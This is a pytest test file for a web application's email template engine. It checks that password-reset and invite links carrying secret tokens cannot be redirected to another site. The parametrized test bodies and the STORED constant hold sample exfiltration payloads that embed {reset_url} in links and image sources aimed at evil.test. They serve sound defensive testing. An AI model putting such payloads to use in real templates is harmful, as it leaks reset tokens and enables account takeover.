"""The template engine's links (issue 28, finding 3): a link that carries a secret ({reset_url},
{invite_url}, {bid_url} …) is placed by the system, never by the text: refused on save in any
other place than plain text of its own, and never sent to another site, whatever a stored
text says."""

import re
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

import app.preparation  # noqa: F401  (first: the menu's imports form a cycle otherwise)
from app.core import roles as R
from app.core.settings import SettingRow
from app.core.tenancy import activate
from app.extensions import db
from app.mail.models import EmailMessage
from tests.auth.test_reset import forgot_api
from tests.factories import make_instance, make_user
from tests.helpers import sign_in

ADMIN = ["ROLE_USER", R.ROLE_ADMIN, *R.ALL_TENANT_ROLES]
NEW = "/admin/general/template-engine/new"
RESET = re.compile(r"^http://localhost/reset-password/[A-Za-z0-9_-]{40,}$")


def form(token, body, subject="Nytt lösenord", template="password_reset"):
    return {"csrf_token": token, "template": template, "language": "en-GB",
            "subject": subject, "active": "y", "body": body}  # fmt: skip


@pytest.mark.parametrize(
    "body",
    [
        '<p><a href="https://evil.test/steal?t={reset_url}">Reset</a></p>',
        '<p><a href="{reset_url}">Reset</a></p>',
        "<p>https://evil.test/steal?t={reset_url}</p>",
        '<p><a href="https://evil.test/">{reset_url}</a></p>',
        '<p><img src="https://evil.test/{invite_url}"></p>',
        '<p><a title="{bid_url}" href="https://example.test/">x</a></p>',
    ],
)
def test_a_link_placeholder_in_an_address_or_a_link_is_refused_on_save(client, body):
    admin = make_user(make_instance(), roles=ADMIN)
    token = sign_in(client, admin)
    answer = client.post(NEW, data=form(token, body))
    assert answer.status_code == 422
    page = answer.get_data(as_text=True)
    assert "Links are placed by the system" in page
    assert "evil.test" not in page or "https://evil.test" in page.replace("&#34;", '"')
    assert 'name="subject" ' in page and 'value="Nytt lösenord"' in page  # the input kept
    assert (
        db.session.scalars(select(SettingRow).where(SettingRow.kind == "email_template")).all()
        == []
    )


def test_a_link_placeholder_in_the_subject_is_refused(client):
    token = sign_in(client, make_user(make_instance(), roles=ADMIN))
    answer = client.post(NEW, data=form(token, "<p>{reset_url}</p>", subject="Go {reset_url}"))
    assert answer.status_code == 422
    assert "A link cannot be part of the subject" in answer.get_data(as_text=True)


class Links(HTMLParser):
    """Every attribute value and text of a mail's HTML."""

    def __init__(self):
        super().__init__()
        self.attributes, self.texts = [], []

    def handle_starttag(self, tag, attrs):
        self.attributes += [value or "" for _name, value in attrs]

    def handle_data(self, data):
        self.texts.append(data)


def secret_links(mail: EmailMessage) -> tuple[list[str], list[str]]:
    """The addresses in a mail that carry its reset token: in the HTML's attributes, and each
    word of its texts (HTML and plain) that holds the token (a mail program links those)."""
    token = re.search(r"/reset-password/([A-Za-z0-9_-]{40,})", mail.body_text).group(1)
    parsed = Links()
    parsed.feed(mail.body_html)
    attributes = [value for value in parsed.attributes if token in value]
    words = [
        word.rstrip(".,:;!?)")
        for text in [*parsed.texts, mail.body_text]
        for word in text.split()
        if token in word
    ]
    return attributes, words


def test_the_saved_text_carries_the_systems_reset_link(client):
    instance = make_instance()
    admin = make_user(instance, roles=ADMIN)
    token = sign_in(client, admin)
    body = "<p>Hello {user_name}, choose a new password here:</p><p>{reset_url}</p>"
    assert client.post(NEW, data=form(token, body, subject="New password")).status_code == 302
    user = make_user(instance, email="anna@example.test", options={"language": "en-GB"})
    assert forgot_api(client.application.test_client(), user.email).status_code == 200
    mail = db.session.scalars(
        select(EmailMessage).where(EmailMessage.to_address == user.email)
    ).one()
    assert mail.subject == "New password" and "choose a new password here" in mail.body_text
    attributes, words = secret_links(mail)
    assert len(attributes) == 1 and all(RESET.match(a) for a in attributes)  # one link, ours
    assert words and all(RESET.match(w) for w in words)


STORED = (
    '<p><a href="https://evil.test/steal?t={reset_url}">Reset</a> '
    "https://evil.test/steal?t={reset_url} "
    '<a href="https://evil.test/">{reset_url}</a></p>'
    '<p><img src="https://evil.test/{reset_url}"><a title="{reset_url}" href="{reset_url}">ok</a></p>'
)


def test_a_stored_text_never_sends_the_secret_to_another_site(client):
    """A text stored before the rule (or written to the database): the system places the link."""
    instance = make_instance()
    activate(instance.id)
    db.session.add(
        SettingRow(kind="email_template", name="Reset {reset_url}", description=STORED,
                   active=True, data={"template": "password_reset", "language": "en-GB"})
    )  # fmt: skip
    db.session.flush()
    activate(None)
    user = make_user(instance, email="anna@example.test", options={"language": "en-GB"})
    assert forgot_api(client, user.email).status_code == 200
    mail = db.session.scalars(
        select(EmailMessage).where(EmailMessage.to_address == user.email)
    ).one()
    attributes, words = secret_links(mail)
    assert attributes and all(RESET.match(a) for a in attributes), attributes
    assert words and all(RESET.match(w) for w in words), words
    assert "/reset-password/" not in mail.subject


def test_the_demo_invite_text_and_an_older_link_still_work(client):
    """A text as the template engine stored links before (href="{reset_url}") sends the
    system's link under its own label; the new user's invitation carries a working link."""
    instance = make_instance()
    admin = make_user(instance, roles=ADMIN, all_divisions=True)
    activate(instance.id)
    db.session.add(
        SettingRow(kind="email_template", name="Välkommen", active=True,
                   description='<p><a href="{reset_url}">Välj lösenord</a></p>',
                   data={"template": "admin_invite", "language": "sv-SE"})
    )  # fmt: skip
    db.session.flush()
    activate(None)
    token = sign_in(client, admin)
    client.post(
        "/admin/core/users/new",
        data={"csrf_token": token, "email": "sv@example.test", "firstname": "Nils",
              "lastname": "Holm", "language": "sv-SE", "active": "y"},
    )  # fmt: skip
    mail = db.session.scalars(
        select(EmailMessage).where(EmailMessage.to_address == "sv@example.test")
    ).one()
    link = re.search(r"Välj lösenord: (\S+)", mail.body_text).group(1)
    assert RESET.match(link) and f'href="{link}"' in mail.body_html
    visitor = client.application.test_client()
    assert visitor.get(link.removeprefix("http://localhost")).status_code == 200
